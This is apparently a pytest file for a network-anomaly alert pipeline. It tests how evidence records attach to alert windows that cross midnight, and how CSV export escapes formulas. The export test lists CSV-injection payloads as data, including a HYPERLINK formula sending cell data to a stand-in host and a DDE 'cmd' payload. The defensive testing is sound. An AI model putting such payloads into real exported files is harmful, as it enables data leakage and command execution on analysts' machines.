"""attach_evidence: the original records of each alerted window, from a table or a view of it."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest

from vigia.config import DatasetConfig
from vigia.pipeline.alerts import attach_evidence, export_alerts

CFG = DatasetConfig.model_validate(
    {
        "name": "net",
        "kind": "network_conn",
        "source": {"type": "synthetic_zeek"},
        "sql_models": "network",
        "partitions": {"start": "2024-03-01", "end": "2024-03-04"},
        "window": {"size": "420s"},  # 7 minutes
        "detectors": [{"name": "iforest", "type": "isolation_forest"}],
        "consensus": {"k": 1},
        "alerts": {"evidence_records": 5},
    }
)
RECORDS = [  # (uid, ts, orig_h)
    ("A1", "2024-03-01 23:57:00", "10.0.0.1"),
    ("A2", "2024-03-02 00:01:00", "10.0.0.1"),  # in the 23:55–00:02 window below, next day
    ("A3", "2024-03-02 00:05:00", "10.0.0.1"),  # after the window
    ("B1", "2024-03-01 23:58:00", "10.0.0.2"),  # another host
    ("C1", "2024-03-03 10:00:00", "10.0.0.1"),  # a day with no alert
]


@pytest.fixture(params=["table", "view"])
def con(request: pytest.FixtureRequest) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    con.execute("CREATE SCHEMA net")
    con.execute("CREATE TABLE net.conn_rows (ts TIMESTAMP, uid VARCHAR, orig_h VARCHAR, day DATE)")
    con.executemany(
        "INSERT INTO net.conn_rows VALUES (CAST(? AS TIMESTAMP), ?, ?, CAST(CAST(? AS TIMESTAMP) AS DATE))",
        [(ts, uid, host, ts) for uid, ts, host in RECORDS],
    )
    kind = "VIEW" if request.param == "view" else "TABLE"
    con.execute(f"CREATE {kind} net.stg_conn AS SELECT * FROM net.conn_rows")
    return con


def test_evidence_spans_midnight_and_stays_in_its_window(con: duckdb.DuckDBPyConnection) -> None:
    """Feature windows are cut at midnight UTC, but evidence reads every day an alert's window covers."""
    start = datetime(2024, 3, 1, 23, 55)
    alerts = pl.DataFrame(
        {
            "alert_id": ["a", "b"],
            "orig_h": ["10.0.0.1", "10.0.0.2"],
            "window_start": [start, start],
            "window_end": [datetime(2024, 3, 2, 0, 2), datetime(2024, 3, 2, 0, 2)],
        }
    )
    out = attach_evidence(con, alerts, CFG, "stg_conn", ("ts", "uid", "orig_h"))
    evidence = {
        r["alert_id"]: [e["uid"] for e in pl.Series([r["evidence"]]).str.json_decode()[0]]
        for r in out.iter_rows(named=True)
    }
    assert evidence == {"a": ["A1", "A2"], "b": ["B1"]}


def test_no_alerts_no_query(con: duckdb.DuckDBPyConnection) -> None:
    empty = pl.DataFrame(
        schema={"alert_id": pl.String, "orig_h": pl.String, "window_start": pl.Datetime, "window_end": pl.Datetime}
    )
    assert attach_evidence(con, empty, CFG, "stg_conn")["evidence"].to_list() == []


def test_csv_export_neutralises_formulas_and_json_keeps_the_values(tmp_path: Path) -> None:
    """Entities and evidence come from the traffic: a user name '=HYPERLINK(...)' must not become a live
    formula when an analyst opens the CSV in a spreadsheet (it did)."""
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "10.0.0.1"]
    evidence = json.dumps([{"user_agent": "=cmd|' /C calc'!A0"}])
    alerts = pl.DataFrame({
        "alert_id": [f"a{i}" for i in range(len(hostile))], "user": hostile,
        "window_start": [datetime(2026, 1, 5, 10)] * len(hostile), "ml_score": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.9],
        "top_features": ["[]"] * len(hostile), "evidence": [evidence] * len(hostile),
    })  # fmt: skip
    paths = export_alerts(alerts, tmp_path, "2026-01-05")
    with paths["csv"].open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["user"] for r in rows] == [f"'{v}" for v in hostile[:5]] + ["10.0.0.1"]
    assert rows[0]["evidence"] == evidence  # starts with '[': not a formula
    assert rows[0]["ml_score"] == "-0.5"  # numbers are left alone
    records = json.loads(paths["json"].read_text())
    assert [r["user"] for r in records] == hostile and records[0]["evidence"][0]["user_agent"].startswith("=cmd")
